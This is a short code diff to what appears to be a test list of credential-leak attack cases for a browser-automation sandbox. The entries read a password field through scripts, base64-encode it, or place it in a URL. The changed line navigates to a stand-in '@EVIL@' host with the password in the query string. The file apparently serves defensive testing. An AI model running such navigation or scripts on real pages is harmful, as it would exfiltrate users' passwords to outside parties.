@@ -63,7 +63,7 @@ ATTACKS = [
           "page.click('text=Mirror')\nwith page.expect_download() as d:\n"
           "    page.click('text=Save mirror')\nanswer([d.value.suggested_filename, d.value.url])"),
     _read("in an address", "page.goto('/x?<secret:password>')\nanswer(page.url)"),
-    _read("in another origin's address", "page.goto('http://@TRAP@/?<secret:password>')", "AW501"),
+    _read("in another origin's address", "page.goto('http://@EVIL@/?<secret:password>')", "AW501"),
     _script("by script", "() => [pw.value, user.value]"),
     _script("base64 by script", "() => btoa(pw.value)"),
     _script("in base64 of a pair", "() => btoa('user:' + pw.value)"),
